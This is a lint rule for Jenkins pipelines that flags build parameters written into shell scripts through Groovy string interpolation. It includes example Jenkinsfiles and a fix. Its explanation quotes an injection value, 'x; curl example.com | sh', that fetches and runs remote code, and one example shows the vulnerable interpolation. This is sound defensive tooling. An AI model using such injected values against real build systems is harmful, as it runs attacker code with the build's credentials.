rule "jenkins/injected-parameter" {
  title    = "Parameter that is run as a script"
  severity = "error"
  since    = "0.1.0"

  for_each             = jenkins.interpolations
  condition            = !each.value.injects
  error_message        = "`${each.value.name}` is any text that somebody gives to the build, and Groovy writes it into the script"
  undetermined_message = "`${each.value.name}` may be any text, and Groovy writes it into the script: its kind is not known from this file"
  highlight            = each.value.site

  why        = "A parameter such as `x; curl example.com | sh` is run with the credentials of the build by everybody who may start it. Quotes in the script do not help: they can be closed."
  fix        = "Write the script in single quotes and let the shell take the value from its environment (`sh 'terraform workspace select \"$WORKSPACE_NAME\"'`), or declare it as `choice`."
  references = ["https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation"]

  example "any text" {
    file "Jenkinsfile" {
      content = <<-GROOVY
        pipeline {
            agent any
            parameters {
                string(name: 'TARGET', defaultValue: 'test')
            }
            stages {
                stage('Plan') {
                    steps {
                        sh "terraform workspace select $${params.TARGET}" // violation
                    }
                }
            }
        }
      GROOVY
    }
  }

  example "one of a few, compared, or left to the shell" {
    file "Jenkinsfile" {
      content = <<-GROOVY
        pipeline {
            agent any
            parameters {
                choice(name: 'REGION', choices: ['eu-central-1', 'eu-west-1'])
                string(name: 'TARGET', defaultValue: 'test')
                string(name: 'TAG', defaultValue: 'v1')
            }
            stages {
                stage('Plan') {
                    steps {
                        script {
                            if (!(params.TAG ==~ /v[0-9]+/)) {
                                error 'not a tag'
                            }
                        }
                        sh "terraform plan -var region=$${params.REGION} -var tag=$${params.TAG}"
                        sh 'terraform workspace select "$TARGET"'
                    }
                }
            }
        }
      GROOVY
    }
  }

  example "declared in the job" {
    file "Jenkinsfile" {
      content = <<-GROOVY
        node {
            sh "terraform workspace select $${params.TARGET}" // undetermined
        }
      GROOVY
    }
  }
}
